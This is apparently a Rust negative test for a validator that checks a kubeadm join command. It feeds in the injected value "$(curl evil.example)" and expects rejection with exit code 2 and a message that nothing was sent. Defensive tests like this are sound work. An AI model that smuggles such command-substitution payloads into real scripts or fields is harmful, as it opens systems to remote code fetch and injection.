// Says another command where a script expects a join command.
// args: abcdef.0123456789abcdef
#![no_main]
use hostile::*;

struct Case;

impl Hostile for Case {
    fn plan_for(request: Request) -> Result<Plan, Failure> {
        Ok(line("join-command", "$(curl evil.example)", &request))
    }
}

hostile!(Case);

// exit: 2
// error: the phase wants to do more than it is allowed to; nothing was sent
//   output `join-command`: it must be `kubeadm join HOST:PORT --token TOKEN`, optionally with --discovery-token-ca-cert-hash, --control-plane and --certificate-key
